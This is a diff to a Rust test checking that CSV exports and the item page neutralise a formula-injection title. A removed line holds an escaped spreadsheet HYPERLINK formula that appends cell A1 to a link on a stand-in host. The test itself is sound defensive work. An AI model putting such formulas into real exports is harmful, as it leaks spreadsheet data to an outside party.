@@ -712,9 +712,11 @@ fn csv_exports_neutralise_a_formula_title_in_the_cli_and_the_console() {
     let session = [("Cookie", cookie.as_str())];
     let r = http(&host, "GET", &format!("/item/{id}"), &session, "");
     assert_eq!(r.status, 200, "{}", r.body);
-    let shown = "&quot;&#39;=HYPERLINK(&quot;&quot;http://x.example/?&quot;&quot;&amp;A1,&quot;&quot;click&quot;&quot;)&quot;";
+    // The same cell, as page text (`&` and `"` escaped; `'` needs no
+    // escape in element content).
+    let shown = neutralised.replace('&', "&amp;").replace('"', "&quot;");
     let copy = r.body.find("id=\"copy-csv\"").expect("a CSV copy");
-    assert!(r.body[copy..].contains(shown), "{}", &r.body[copy..]);
+    assert!(r.body[copy..].contains(&shown), "{}", &r.body[copy..]);
     let r = http(
         &host,
         "GET",
